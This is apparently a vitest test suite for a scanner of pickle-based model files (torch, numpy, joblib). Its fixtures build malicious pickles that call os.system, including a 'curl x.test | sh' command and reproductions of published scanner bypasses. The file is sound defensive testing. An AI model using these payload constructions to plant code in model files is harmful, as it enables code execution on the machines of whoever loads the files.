import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { bytesReader } from '../../range.ts';
import {
  blob,
  bytes,
  callPickle,
  calledWith,
  global,
  proto,
  stackGlobal,
  stateDict,
  tar,
  text,
  torchZip,
  uint32,
  zip,
} from './assemble.ts';
import { readPickles } from './read.ts';
import type { PickleLimits, PickleReport } from './report.ts';

const read = (content: Uint8Array, name = 'model.pkl', limits: Partial<PickleLimits> = {}): PickleReport =>
  readPickles(bytesReader(content), name, limits);
const kinds = (report: PickleReport): string[] => report.anomalies.map(({ what }) => what);
const hex = (digits: string): Uint8Array => Buffer.from(digits, 'hex');
const evil = callPickle('posix', 'system');

describe('honest files are clean', () => {
  // python3: pickle.dumps({'b': [1, -1, 2**40, 2**70, -2**31, True, None, 1.5], 't': datetime(…, tzinfo=utc), 'd': Decimal('1.5'), 'o': OrderedDict(a=1),
  //   's': {1}, 'f': frozenset([2]), 'u': UUID(int=5), 'x': b'\x00\xff', 'c': 1+2j, 'ba': bytearray(b'q')}, protocol)
  it.each([
    [
      0,
      '286470300a56620a70310a286c70320a49310a61492d310a614c313039393531313632373737364c0a614c313138303539313632303731373431313330333432344c0a61492d323134373438333634380a614930310a614e6146312e350a617356740a70330a636461746574696d650a6461746574696d650a70340a28635f636f646563730a656e636f64650a70350a285607e805060708095c75303030305c75303030305c75303030300a70360a566c6174696e310a70370a7470380a5270390a636461746574696d650a74696d657a6f6e650a7031300a28636461746574696d650a74696d6564656c74610a7031310a2849300a49300a49300a747031320a527031330a747031340a527031350a747031360a527031370a7356640a7031380a63646563696d616c0a446563696d616c0a7031390a2856312e350a7032300a747032310a527032320a73566f0a7032330a63636f6c6c656374696f6e730a4f726465726564446963740a7032340a2874527032350a56610a7032360a49310a737356730a7032370a635f5f6275696c74696e5f5f0a7365740a7032380a28286c7032390a49310a61747033300a527033310a7356660a7033320a635f5f6275696c74696e5f5f0a66726f7a656e7365740a7033330a28286c7033340a49320a61747033350a527033360a7356750a7033370a63636f70795f7265670a5f7265636f6e7374727563746f720a7033380a2863757569640a555549440a7033390a635f5f6275696c74696e5f5f0a6f626a6563740a7034300a4e747034310a527034320a28647034330a56696e740a7034340a49350a73627356780a7034350a67350a28565c7530303030ff0a7034360a67370a747034370a527034380a7356630a7034390a635f5f6275696c74696e5f5f0a636f6d706c65780a7035300a2846312e300a46322e300a747035310a527035320a735662610a7035330a635f5f6275696c74696e5f5f0a6279746561727261790a7035340a2867350a2856710a7035350a67370a747035360a527035370a747035380a527035390a732e',
    ],
    [
      2,
      '80027d71002858010000006271015d7102284b014affffffff8a060000000000018a090000000000000000404a00000080884e473ff8000000000000655801000000747103636461746574696d650a6461746574696d650a7104635f636f646563730a656e636f64650a7105580b00000007c3a80506070809000000710658060000006c6174696e317107867108527109636461746574696d650a74696d657a6f6e650a710a636461746574696d650a74696d6564656c74610a710b4b004b004b0087710c52710d85710e52710f867110527111580100000064711263646563696d616c0a446563696d616c0a71135803000000312e35711485711552711658010000006f711763636f6c6c656374696f6e730a4f726465726564446963740a711829527119580100000061711a4b0173580100000073711b635f5f6275696c74696e5f5f0a7365740a711c5d711d4b016185711e52711f5801000000667120635f5f6275696c74696e5f5f0a66726f7a656e7365740a71215d71224b0261857123527124580100000075712563757569640a555549440a7126298171277d71285803000000696e7471294b057362580100000078712a6805580300000000c3bf712b680786712c52712d580100000063712e635f5f6275696c74696e5f5f0a636f6d706c65780a712f473ff0000000000000474000000000000000867130527131580200000062617132635f5f6275696c74696e5f5f0a6279746561727261790a7133680558010000007171346807867135527136857137527138752e',
    ],
    [
      5,
      '80059561010000000000007d94288c0162945d94284b014affffffff8a060000000000018a090000000000000000404a00000080884e473ff8000000000000658c0174948c086461746574696d65948c086461746574696d65949394430a07e805060708090000009468048c0874696d657a6f6e6594939468048c0974696d6564656c74619493944b004b004b008794529485945294869452948c0164948c07646563696d616c948c07446563696d616c9493948c03312e3594859452948c016f948c0b636f6c6c656374696f6e73948c0b4f726465726564446963749493942952948c0161944b01738c0173948f94284b01908c016694284b0291948c0175948c0475756964948c04555549449493942981947d948c03696e74944b0573628c017894430200ff948c0163948c086275696c74696e73948c07636f6d706c6578949394473ff0000000000000474000000000000000869452948c026261949601000000000000007194752e',
    ],
  ])('protocol %i of lists, big integers, dates, decimals, sets and bytes', (_, digits) => {
    const report = read(hex(digits));
    expect(report).toMatchObject({ format: 'pickle', verdict: 'clean', anomalies: [] });
    expect(report.streams).toMatchObject([{ ended: 'stop', bytesAfterStop: 0 }]);
  });

  // python3: pickle.dumps(numpy.arange(3, dtype='f4'), 4), pickle.dumps({'a': numpy.float64(2.0)}, 2)
  it.each([
    '80049595000000000000008c166e756d70792e5f636f72652e6d756c74696172726179948c0c5f7265636f6e7374727563749493948c056e756d7079948c076e6461727261799493944b0085944301629487945294284b014b03859468038c0564747970659493948c02663494898887945294284b038c013c944e4e4e4affffffff4affffffff4b0074946289430c000000000000803f00000040947494622e',
    '80027d71005801000000617101636e756d70792e5f636f72652e6d756c746961727261790a7363616c61720a7102636e756d70790a64747970650a71035802000000663871048988877105527106284b0358010000003c71074e4e4e4affffffff4affffffff4b0074710862635f636f646563730a656e636f64650a710958080000000000000000000040710a58060000006c6174696e31710b86710c52710d86710e52710f732e',
  ])('numpy values', (digits) => expect(read(hex(digits))).toMatchObject({ format: 'pickle', verdict: 'clean', anomalies: [] }));

  it('a torch archive', () => {
    const report = read(zip(torchZip(stateDict())), 'pytorch_model.bin');
    expect(report).toMatchObject({ format: 'torch-zip', verdict: 'clean', anomalies: [] });
    expect(report.streams[0]?.globals.map(({ module, name, standing }) => `${module}.${name} ${standing}`)).toEqual([
      'torch._utils._rebuild_tensor_v2 safe',
      'torch.FloatStorage safe',
      'collections.OrderedDict safe',
    ]);
  });

  it('a large memo and a large list', () => {
    const items = Array.from({ length: 70_000 }, (_, index) => bytes(text(`k${index % 9}`), 0x94, 'J', uint32(index)));
    expect(read(bytes(proto(4), '](', ...items, 'e.'))).toMatchObject({ verdict: 'clean', anomalies: [] });
  });

  it('a library model is clean, and its classes are listed', () => {
    const report = read(
      bytes(proto(4), stackGlobal('sklearn.linear_model._logistic', 'LogisticRegression'), ')', 0x81, '}', text('C'), 'K\x01sb.'),
    );
    expect(report.verdict).toBe('clean');
    expect(report.streams[0]?.globals[0]).toMatchObject({ standing: 'library-class', group: 'scikit-learn', called: true });
  });

  it('an enum member as Python 3.11 writes it', () => {
    const report = read(
      bytes(
        proto(4),
        stackGlobal('builtins', 'getattr'),
        stackGlobal('torch.distributed.fsdp.api', 'StateDictType'),
        text('FULL_STATE_DICT'),
        0x86,
        'R.',
      ),
    );
    expect(report.verdict).toBe('clean');
  });
});

describe('what is not known is never clean', () => {
  it.each([
    ['a class of another library', callPickle('ultralytics.nn.tasks', 'DetectionModel'), 'unknown', 'unknown-class'],
    ['a function of another library', callPickle('ultralytics.nn.tasks', 'build'), 'unknown', 'unknown'],
    ['an unlisted function of Python', callPickle('statistics', 'mean'), 'suspicious', 'unlisted'],
    ['an unlisted function of a known library', callPickle('sklearn.utils.extmath', 'density'), 'suspicious', 'unlisted'],
  ])('%s', (_, content, verdict, standing) => {
    const report = read(content);
    expect(report.verdict).toBe(verdict);
    expect(report.streams[0]?.globals[0]?.standing).toBe(standing);
  });

  it('gives evidence in a sentence', () => {
    expect(read(callPickle('posix', 'system', 'curl x.test | sh')).reasons[0]).toBe(
      'posix.system is called at byte 17 of the file with "curl x.test | sh": runs commands or processes',
    );
  });
});

describe('published bypasses of pickle scanners', () => {
  const resolved = (module: string, name: string, ...args: string[]): Uint8Array =>
    bytes(proto(4), stackGlobal(module, name), '(', ...args.map(text), 'tR.');
  it.each<[string, Uint8Array]>([
    ['CVE-2025-1716: pip.main', callPickle('pip', 'main')],
    ['CVE-2025-10157: a submodule of a listed module', callPickle('asyncio.unix_events', '_UnixSubprocessTransport._start')],
    ['GHSA-9gvj-pp9x-gcfr: a broken opcode after the payload', bytes(evil.subarray(0, -1), 0xff)],
    [
      'GHSA-m273-6v24-x4m4: methodcaller',
      bytes(
        proto(4),
        stackGlobal('operator', 'methodcaller'),
        '(',
        text('system'),
        text('id'),
        'tR',
        stackGlobal('importlib', 'import_module'),
        calledWith(text('os')),
        0x85,
        'R.',
      ),
    ],
    ['GHSA-955r-x9j8-7rhh: _operator.attrgetter', resolved('_operator', 'attrgetter', 'system')],
    ['GHSA-g38g-8gr9-h9xp: uuid', resolved('uuid', '_get_command_stdout', 'id')],
    ['GHSA-g38g-8gr9-h9xp: _pyrepl', resolved('_pyrepl.pager', 'pipe_pager', 'x', 'id')],
    [
      'pkgutil.resolve_name',
      bytes(proto(4), stackGlobal('pkgutil', 'resolve_name'), calledWith(text('os:system')), calledWith(text('id')), '.'),
    ],
    [
      'a torch magic number that a call produces',
      bytes(proto(2), global('builtins', 'eval'), '(X', uint32(2), '42tR.', proto(2), 'M\xe9\x03.'),
    ],
    [
      'modelscan 89: numpy.__builtins__ through dict.get',
      bytes(proto(5), global('builtins', 'dict.get'), global('numpy', '__builtins__'), 'Vexec\n', 0x86, 'R', calledWith(text('1')), '.'),
    ],
    [
      'modelscan 331: names joined while loading',
      bytes(proto(4), stackGlobal('importlib', 'import_module'), calledWith(text('builtins')), 0x94, '.'),
    ],
    [
      'modelscan 338: bytes as a module name',
      bytes(proto(4), blob(Buffer.from('os')), blob(Buffer.from('system')), 0x93, calledWith(text('id')), '.'),
    ],
    ['a dotted alias', callPickle('torch', '_utils.sys.modules')],
    [
      'getattr on a listed module',
      bytes(proto(4), stackGlobal('builtins', 'getattr'), stackGlobal('numpy', 'core'), text('os'), 0x86, 'R.'),
    ],
    [
      '_ufunc_reconstruct as an importer',
      bytes(proto(4), stackGlobal('numpy.core', '_ufunc_reconstruct'), text('os'), text('system'), 0x86, 'R.'),
    ],
    ['an extension code', bytes(proto(2), 0x82, 1, ')R.')],
    ['a pickle inside a pickle', bytes(proto(4), blob(evil), '.')],
    [
      'a pickle inside text',
      bytes(
        proto(2),
        global('_codecs', 'encode'),
        '(X',
        uint32(Buffer.from(Buffer.from(evil).toString('latin1')).length),
        Buffer.from(Buffer.from(evil).toString('latin1')),
        'X',
        uint32(6),
        'latin1tR.',
      ),
    ],
    ['a second pickle behind the first', bytes(proto(4), 'N.', evil)],
    [
      'torch bytes that hold a pickle',
      bytes(proto(4), stackGlobal('torch.storage', '_load_from_bytes'), blob(bytes("(S'id'\nios\nsystem\n.")), 0x85, 'R.'),
    ],
    [
      'torch bytes that hold an archive',
      bytes(proto(4), stackGlobal('torch.storage', '_load_from_bytes'), blob(zip(torchZip(evil))), 0x85, 'R.'),
    ],
  ])('%s', (_, content) => expect(read(content).verdict).toBe('dangerous'));

  it('CVE-2025-10155: a bare pickle named .bin', () =>
    expect(read(evil, 'pytorch_model.bin')).toMatchObject({ format: 'pickle', verdict: 'dangerous' }));

  // python3: pickle.dumps(<calls pickle.loads on pickle.dumps(<calls os.system('id')>, 4)>, 4)
  it('lists what a nested pickle reaches, with its place', () => {
    const report = read(
      hex(
        '80049544000000000000008c075f7069636b6c65948c056c6f61647394939443288004951d000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e94859452942e',
      ),
    );
    expect(report.streams.map(({ member, globals }) => [member, globals[0]?.name])).toEqual([
      [undefined, 'loads'],
      ['literal at 33', 'system'],
    ]);
  });
});

describe('odd streams', () => {
  it('nullifAI: everything before the break counts, and a 7z is not called clean', () => {
    expect(read(evil.subarray(0, -1)).streams[0]).toMatchObject({ ended: 'truncated', globals: [{ name: 'system' }] });
    const report = read(bytes('7z\xbc\xaf\x27\x1c\x00\x04', new Uint8Array(40)), 'pytorch_model.bin');
    expect(report).toMatchObject({ format: '7z', verdict: 'unreadable', streams: [] });
    expect(report.reasons[0]).toContain('unsupported');
  });

  it('a broken pickle of safe things is unreadable, of unknown things suspicious', () => {
    expect(read(bytes(proto(4), stackGlobal('collections', 'OrderedDict'), ')R', 0xff)).verdict).toBe('unreadable');
    expect(read(bytes(proto(4), stackGlobal('my_lib', 'rebuild'), ')R', 0xff)).verdict).toBe('suspicious');
  });

  it('bytes after the end', () => {
    expect(read(bytes(proto(4), 'N.', 'some other data'))).toMatchObject({
      verdict: 'suspicious',
      streams: [{ bytesAfterStop: 15 }],
      anomalies: [{ what: 'data-after-stop', offset: 4 }],
    });
    expect(read(bytes(proto(4), 'N.', new Uint8Array(100))).verdict).toBe('clean');
  });

  it('a flood of harmless oddities or globals hides nothing behind it', () => {
    const frames = Array.from({ length: 3000 }, () => bytes(0x95, uint32(0xffff_ffff), uint32(0)));
    expect(read(bytes(proto(4), ...frames, global('numpy', 'prod'), '}b.')).verdict).toBe('dangerous');
    const names = Array.from({ length: 300 }, (_, index) => bytes(global('my_lib', `Name${index}`), '0'));
    const report = read(bytes(...names, global('os', 'system'), '.'), 'a.pkl', { globals: 100 });
    expect(report.verdict).toBe('dangerous');
    expect(kinds(report)).toContain('limit');
  });

  it('several pickles in a row', () => {
    const report = read(bytes(proto(2), 'K\x01.', proto(2), 'K\x02.', proto(2), 'K\x03.'));
    expect(report.streams.map(({ offset }) => offset)).toEqual([0, 5, 10]);
    expect(report).toMatchObject({ verdict: 'clean', anomalies: [{ what: 'several-pickles' }] });
  });

  it('limits are stated and never clean', () => {
    const list = bytes(proto(4), ...Array.from({ length: 500 }, () => 'N0'), 'N.');
    expect(read(list, 'a.pkl', { opcodes: 100 })).toMatchObject({
      verdict: 'unknown',
      streams: [{ ended: 'limit' }],
      anomalies: [{ what: 'limit', detail: '100 opcodes' }],
    });
    const deep = (levels: number): Uint8Array => (levels === 0 ? evil : bytes(proto(4), blob(deep(levels - 1)), '.'));
    expect(read(deep(3)).verdict).toBe('dangerous');
    expect(kinds(read(deep(12)))).toContain('limit');
    expect(read(deep(12)).verdict).not.toBe('clean');
  });
});

describe('older torch files', () => {
  const magic = hex('80028a0a6cfc9c46f9206aa850192e');
  const legacy = (object: Uint8Array): Uint8Array =>
    bytes(
      magic,
      proto(2),
      'M\xe9\x03.',
      proto(2),
      '}q\x00.',
      object,
      proto(2),
      ']q\x00X\x01\x00\x00\x000a.',
      hex('0400000000000000'),
      new Uint8Array(16).fill(0x63),
    );

  it('five pickles and raw storages are clean', () => {
    const report = read(legacy(stateDict()), 'old.pth');
    expect(report).toMatchObject({ format: 'torch-legacy', verdict: 'clean', anomalies: [] });
    expect(report.streams).toHaveLength(5);
    expect(report.streams[4]?.bytesAfterStop).toBe(24);
  });

  it('a payload in the fourth is found', () =>
    expect(read(legacy(evil), 'old.pth')).toMatchObject({ format: 'torch-legacy', verdict: 'dangerous' }));

  it('the tar form is read member by member', () => {
    const file = (pickle: Uint8Array): Uint8Array =>
      tar({ sys_info: bytes(proto(2), '}.'), pickle, storages: bytes(proto(2), 'K\x00.'), tensors: bytes(proto(2), 'K\x00.') });
    expect(read(file(stateDict()), 'old.pt')).toMatchObject({ format: 'torch-legacy', verdict: 'clean' });
    expect(read(file(evil), 'old.pt')).toMatchObject({ verdict: 'dangerous', streams: [{}, { member: 'pickle' }, {}, {}] });
  });
});

describe('compressed pickles', () => {
  it.each([
    ['gzip', gzipSync],
    ['zlib', deflateSync],
  ])('%s is looked into', (_, pack) => {
    expect(read(pack(evil), 'model.joblib')).toMatchObject({ format: 'pickle', verdict: 'dangerous' });
    expect(read(pack(callPickle('collections', 'OrderedDict')), 'model.joblib').verdict).toBe('clean');
  });

  it('what stood before a break in the compressed data counts', () => {
    const packed = gzipSync(
      bytes(
        evil,
        new Uint8Array(5000).map((_, index) => (index * 7919) % 251),
      ),
    );
    const report = read(packed.subarray(0, packed.length - 300), 'model.joblib');
    expect(report.verdict).toBe('dangerous');
    expect(kinds(report)).toContain('corrupt-data');
  });

  it('a bomb stops at the limit', () => {
    const report = read(gzipSync(bytes(proto(4), 'B', uint32(50_000_000), new Uint8Array(50_000_000), '.')), 'a.pkl', {
      inflatedBytes: 100_000,
    });
    expect(kinds(report)).toContain('limit');
    expect(report.verdict).toBe('unreadable');
  });

  it.each([
    ['xz', '\xfd7zXZ\x00'],
    ['bzip2', 'BZh91AY&SY'],
    ['lz4', '\x04"M\x18'],
    ['zstd', '(\xb5/\xfd'],
  ])('%s is stated as not opened', (_, magic) =>
    expect(read(bytes(magic, new Uint8Array(20)), 'm.joblib')).toMatchObject({ format: 'compressed', verdict: 'unreadable' }),
  );
});

describe('numpy and joblib', () => {
  const npy = (descr: string, data: Uint8Array): Uint8Array => {
    const header = `{'descr': ${descr}, 'fortran_order': False, 'shape': (1,), }\n`;
    return bytes('\x93NUMPY\x01\x00', header.length, 0, header, data);
  };
  it('arrays of numbers hold no pickle, arrays of objects do', () => {
    expect(read(npy("'<f8'", new Uint8Array(8)), 'a.npy')).toMatchObject({ format: 'npy', verdict: 'clean', streams: [] });
    expect(read(npy("'|O'", bytes(proto(3), ']K\x01a.')), 'a.npy')).toMatchObject({ format: 'npy-object', verdict: 'clean' });
    expect(read(npy("'|O'", evil), 'a.npy')).toMatchObject({ format: 'npy-object', verdict: 'dangerous' });
    expect(read(npy("[('a', '<i4'), ('b', '|O')]", evil), 'a.npy').verdict).toBe('dangerous');
    expect(read(npy("'<f8'", evil), 'a.npy').verdict).toBe('dangerous');
  });

  it('are found in npz archives', () => {
    expect(read(zip([{ name: 'a.npy', data: npy("'<f8'", new Uint8Array(8)) }]), 'a.npz')).toMatchObject({
      format: 'npy',
      verdict: 'clean',
    });
    expect(read(zip([{ name: 'a.npy', data: npy("'|O'", evil), deflate: true }]), 'a.npz')).toMatchObject({
      format: 'npy-object',
      verdict: 'dangerous',
    });
  });

  // python3 with joblib 1.6.0: joblib.dump({'w': numpy.arange(4, dtype='u2'), 'o': numpy.array([None], dtype=object), 'z': 1}, file)
  const dumped =
    '800495d8000000000000007d94288c0177948c136a6f626c69622e6e756d70795f7069636b6c65948c114e756d70794172726179577261707065729493942981947d94288c08737562636c617373948c056e756d7079948c076e6461727261799493948c057368617065944b0485948c056f72646572948c0143948c0564747970659468088c0564747970659493948c02753294898887945294284b038c013c944e4e4e4affffffff4affffffff4b007494628c0a616c6c6f775f6d6d617094888c1b6e756d70795f61727261795f616c69676e6d656e745f6279746573944b1075620cffffffffffffffffffffffff0000010002000300954b000000000000008c016f9468042981947d94286807680a680b4b018594680d680e680f68118c024f3894898887945294284b038c017c944e4e4e4affffffff4affffffff4b3f74946268178968184b1075628005958a000000000000008c166e756d70792e5f636f72652e6d756c74696172726179948c0c5f7265636f6e7374727563749493948c056e756d7079948c076e6461727261799493944b0085944301629487945294284b014b01859468038c0564747970659493948c024f3894898887945294284b038c017c944e4e4e4affffffff4affffffff4b3f749462895d944e617494622e9508000000000000008c017a944b01752e';
  it('steps over the array data that joblib writes into the stream', () => {
    const report = read(hex(dumped), 'm.joblib');
    expect(report).toMatchObject({ format: 'joblib', verdict: 'clean', anomalies: [] });
    expect(report.streams).toMatchObject([{ ended: 'stop', bytesAfterStop: 0 }]);
  });

  it('finds a payload behind the array data', () => {
    expect(read(bytes(hex(dumped).subarray(0, -1), evil.subarray(2)), 'm.joblib')).toMatchObject({
      format: 'joblib',
      verdict: 'dangerous',
    });
  });

  it('finds code in the array data, which pickle.load would run', () => {
    const at = Buffer.from(hex(dumped)).indexOf(hex('0000010002000300'));
    expect(at).toBeGreaterThan(0);
    const wrapper = Buffer.from(hex(dumped));
    // The padding's length byte reads as POP_MARK, and the data as a call.
    const code = bytes(global('os', 'system'), "(S'id'\ntR.");
    const start = wrapper.subarray(0, wrapper.lastIndexOf('b', at) + 1);
    const report = read(bytes(start, '0', code, new Uint8Array(60)), 'm.joblib');
    expect(kinds(report)).toContain('code-in-array-data');
    expect(report.verdict).toBe('dangerous');
  });
});

describe('files that are no pickles', () => {
  it('are not called clean', () => {
    expect(read(bytes('GGUF\x03\x00\x00\x00', new Uint8Array(64)), 'model.bin')).toMatchObject({
      format: 'not-pickle',
      verdict: 'unknown',
      streams: [],
    });
    expect(read(bytes('hello world, this is text'), 'model.pkl')).toMatchObject({ format: 'not-pickle', verdict: 'unreadable' });
    expect(read(new Uint8Array(0), 'model.pkl').verdict).toBe('unreadable');
  });

  it('a git-lfs pointer is named as such', () => {
    const report = read(bytes('version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12\n'), 'model.pt');
    expect(report.reasons).toEqual(['a git-lfs pointer: the model itself is not here']);
  });

  it('text that begins like a global is left alone', () => {
    expect(read(bytes('config\nnames\nother text\n'), 'notes.bin').format).toBe('not-pickle');
    expect(read(bytes('class Foo(Module):\n  __parameters__ = []\n'), 'code.model').format).toBe('not-pickle');
  });

  it('random bytes never throw and are never clean', () => {
    let state = 12_345;
    for (let round = 0; round < 400; round += 1) {
      const noise = Uint8Array.from({ length: 200 }, () => {
        state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
        return state >> 16;
      });
      const heads = ['', '\x80\x04\x95', 'PK\x03\x04', '\x93NUMPY\x01\x00', '\x1f\x8b\x08\x00', '(', 'x\x9c'];
      expect(read(bytes(heads[round % heads.length] ?? '', noise), 'noise.pkl').verdict).not.toBe('clean');
    }
  });
});
